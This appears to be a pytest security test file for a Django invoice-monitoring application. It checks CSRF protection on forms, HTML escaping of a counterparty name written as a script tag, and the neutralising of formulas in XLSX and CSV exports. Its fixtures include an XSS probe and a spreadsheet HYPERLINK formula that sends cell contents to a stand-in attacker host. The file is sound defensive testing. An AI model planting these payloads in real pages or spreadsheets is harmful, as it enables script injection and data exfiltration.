"""Attacks from inside the product: a form posted from another site, a counterparty named like a
script, a name that a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from monitor import anomalies
from monitor.anomalies import Observation
from monitor.models import Anomaly
from tests.fixtures.invoices import make_invoice
from tests.test_access import CASES, world  # noqa: F401 (a fixture)

pytestmark = pytest.mark.django_db
SCRIPT = "<script>alert('x')</script>有限公司"
SHOWN_AS_TEXT = "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;有限公司"  # SCRIPT, HTML-escaped
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# Posts that are not forms of a page: the API authenticates by token, login/logout are Django's own.
NOT_PAGE_FORMS = ("api_",)


@pytest.mark.parametrize(
    "case",
    [case for case in CASES if case.method == "post" and not case.name.startswith(NOT_PAGE_FORMS)],
    ids=lambda case: case.name,
)
def test_every_form_refuses_a_post_without_its_csrf_token(case, world):  # noqa: F811
    client = Client(enforce_csrf_checks=True)
    client.force_login(world["people"]["alice"])
    values = world["values"]
    data = {key: value.format(**values) for key, value in (case.data or {}).items()}
    assert client.post(case.path.format(**values), data).status_code == 403


@pytest.fixture
def hostile_invoice(company_a, alice):
    return make_invoice(company_a, alice, seller_name=SCRIPT, remarks=FORMULA)


def test_a_counterparty_named_like_a_script_is_shown_as_text(alice, company_a, browser_as, hostile_invoice):
    anomalies.report(
        "sync_delay",
        [Observation("seller:X", "warning", company_a, details={"seller_name": SCRIPT, "seller_tin": "X",
                                                                  "count": 1, "oldest_days": 9})],
    )  # fmt: skip
    alert = Anomaly.objects.get()
    client = browser_as(alice)
    for path in ("/invoices/", f"/invoices/{hostile_invoice.pk}/", "/dashboard/worklist/",
                 f"/dashboard/worklist/{alert.pk}/", "/monitor/alerts/", "/dashboard/report/"):  # fmt: skip
        response = client.get(path)
        assert response.status_code == 200, path
        body = response.content.decode()
        assert "<script>alert(" not in body, path
        assert SCRIPT not in body, path
        assert SHOWN_AS_TEXT in body, path


def test_no_export_hands_a_formula_to_a_spreadsheet(alice, company_a, browser_as, hostile_invoice):
    client = browser_as(alice)
    workbook = load_workbook(io.BytesIO(client.get("/invoices/export.xlsx").content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(str(cell.value) == "'" + FORMULA for cell in cells)
    rows = list(csv.reader(io.StringIO(client.get("/invoices/export.csv").content.decode("utf-8-sig"))))
    assert not any(
        value.startswith(("=", "+", "-", "@")) and value[1:2].isalpha() for row in rows for value in row
    )
    report = load_workbook(io.BytesIO(client.get("/dashboard/report.xlsx").content))
    assert not any(cell.data_type == "f" for sheet in report for row in sheet.iter_rows() for cell in row)
